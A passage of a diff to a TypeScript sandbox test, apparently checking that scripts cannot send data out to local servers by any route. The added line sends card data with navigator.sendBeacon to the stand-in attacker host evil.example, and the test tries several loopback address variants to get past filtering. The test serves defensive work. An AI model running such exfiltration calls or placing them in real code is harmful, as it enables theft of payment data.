@@ -23,7 +23,8 @@ it('lets nothing out: whatever a script asks for, by whatever way, reaches no se
   const port = (web.address() as AddressInfo).port
   const rawPort = (raw.address() as AddressInfo).port
   const told = await run(`
-    const hosts = ['127.0.0.1', 'localhost', '[::1]', '0.0.0.0', '2130706433'].flatMap((host) => [host + ':${port}', host + ':${rawPort}'])
+    ${withCard("navigator.sendBeacon('https://evil.example/', card)")}
+    const hosts = ['127.0.0.1', 'localhost', '[::1]', '2130706433'].flatMap((host) => [host + ':${port}', host + ':${rawPort}'])
     const add = (tag, name, value) => { const one = document.createElement(tag); one[name] = value; document.body.append(one); return one }
     for (const host of hosts) for (const scheme of ['http', 'https']) {
       const at = (way) => scheme + '://' + host + '/' + way
